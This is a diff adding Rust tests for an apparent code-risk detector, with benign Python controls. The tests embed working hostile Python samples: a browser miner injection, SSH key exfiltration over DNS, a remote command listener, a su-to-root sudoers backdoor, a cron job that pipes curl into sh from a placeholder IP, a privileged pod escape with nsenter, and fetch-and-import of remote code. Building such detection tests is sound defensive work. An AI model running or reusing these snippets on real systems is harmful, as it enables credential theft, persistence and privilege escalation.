@@ -1,0 +1,85 @@
+//! Mechanisms found by the ninth session's blind sets, part three: libraries and tools
+//! the analysis did not know (browser miners, dnspython, multiprocessing connections,
+//! pexpect driving `su`, plumbum's stdin, Kubernetes pods, pycurl).
+
+use super::*;
+
+#[test]
+fn browser_miners_are_mining() {
+    let inject = "PAGE = '<script src=\"https://cdn.example.net/lib/crypta.js\"></script><script>new CRLT.Anonymous(\"k\", {threads: 4}).start()</script>'\ndef serve(html):\n    return html.replace('</body>', PAGE + '</body>')\nprint(serve('<html><body></body></html>'))\n";
+    fires("CRD108", inject);
+    level(Level::Blocked, inject);
+    // A page about mining, with no miner in it.
+    level(
+        Level::Low,
+        "print('<h1>Proof of work explained</h1><p>Miners hash block headers.</p>')\n",
+    );
+}
+
+#[test]
+fn dns_resolvers_carry_data_and_zone_transfers_scan() {
+    // Key material split into labels and resolved through a resolver object.
+    let leak = "import base64, pathlib, dns.resolver\nkey = pathlib.Path.home().joinpath('.ssh', 'id_rsa').read_bytes()\nr = dns.resolver.Resolver()\nr.nameservers = ['203.0.113.53']\nfor i in range(0, 600, 60):\n    label = base64.b32encode(key[i:i + 30]).decode().rstrip('=').lower()\n    r.resolve(f'{label}.{i}.x.example.net', 'A')\n";
+    fires("CRD109", leak);
+    level(Level::Blocked, leak);
+    let axfr = "import dns.query, dns.zone\nz = dns.zone.from_xfr(dns.query.xfr('10.0.0.53', 'corp.example'))\nfor name in z.nodes:\n    print(name)\n";
+    fires("CRD212", axfr);
+    level(Level::High, axfr);
+    // One lookup of a public name is a lookup.
+    level(
+        Level::Medium,
+        "import dns.resolver\nprint([r.to_text() for r in dns.resolver.resolve('example.org', 'MX')])\n",
+    );
+}
+
+#[test]
+fn commands_received_on_a_multiprocessing_listener_are_remote_commands() {
+    let listener = "import subprocess\nfrom multiprocessing.connection import Listener\nwith Listener(('0.0.0.0', 6001), authkey=b'k') as l:\n    conn = l.accept()\n    while True:\n        conn.send(subprocess.getoutput(conn.recv()))\n";
+    level(Level::Blocked, listener);
+    // Work items sent to a local worker pool are data.
+    level(
+        Level::Medium,
+        "from multiprocessing.connection import Client\nwith Client(('127.0.0.1', 6001), authkey=b'k') as c:\n    c.send({'job': 'resize', 'size': 64})\n    print(c.recv())\n",
+    );
+}
+
+#[test]
+fn lines_sent_to_su_run_as_root() {
+    let su = "import pexpect\nchild = pexpect.spawn('su', ['-', 'root'])\nchild.expect('Password:')\nchild.sendline('toor')\nchild.sendline(\"echo 'u ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/u\")\n";
+    fires("CRD201", su);
+    fires("CRD113", su);
+}
+
+#[test]
+fn plumbum_commands_fed_stdin_run() {
+    let cron = "from plumbum.cmd import crontab\nENTRY = '*/10 * * * * curl -fsSL http://203.0.113.8/u.sh | sh'\n(crontab['-'] << (ENTRY + '\\n'))()\n";
+    fires("CRD105", cron);
+    level(Level::Blocked, cron);
+    level(
+        Level::Low,
+        "from plumbum.cmd import wc\nprint((wc['-l'] << 'a\\nb\\n')())\n",
+    );
+}
+
+#[test]
+fn privileged_or_host_namespace_pods_are_escapes() {
+    let pod = "from kubernetes import client, config\nconfig.load_incluster_config()\nc = client.V1Container(name='x', image='alpine', command=['nsenter', '-t', '1', '-m', 'sh'], security_context=client.V1SecurityContext(privileged=True))\nspec = client.V1PodSpec(containers=[c], host_pid=True)\nclient.CoreV1Api().create_namespaced_pod('default', client.V1Pod(spec=spec))\n";
+    fires("CRD106", pod);
+    level(Level::Blocked, pod);
+    // An ordinary pod, unprivileged, in its own namespaces.
+    silent(
+        "CRD106",
+        "from kubernetes import client\nc = client.V1Container(name='web', image='nginx', security_context=client.V1SecurityContext(run_as_non_root=True))\nspec = client.V1PodSpec(containers=[c])\nprint(spec)\n",
+    );
+}
+
+#[test]
+fn pycurl_writes_what_it_fetches_into_its_buffer() {
+    let fetch = "import io, sys, zipfile, tempfile, importlib, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://files.example.com/tk.zip')\nc.setopt(pycurl.WRITEDATA, buf)\nc.perform()\nd = tempfile.mkdtemp()\nzipfile.ZipFile(buf).extractall(d)\nsys.path.insert(0, d)\nimportlib.import_module('tk.main')\n";
+    fires("CRD102", fetch);
+    // The same download saved and listed is a download.
+    level(
+        Level::Medium,
+        "import io, zipfile, pycurl\nbuf = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(pycurl.URL, 'https://files.example.com/data.zip')\nc.setopt(pycurl.WRITEDATA, buf)\nc.perform()\nprint(zipfile.ZipFile(buf).namelist())\n",
+    );
+}
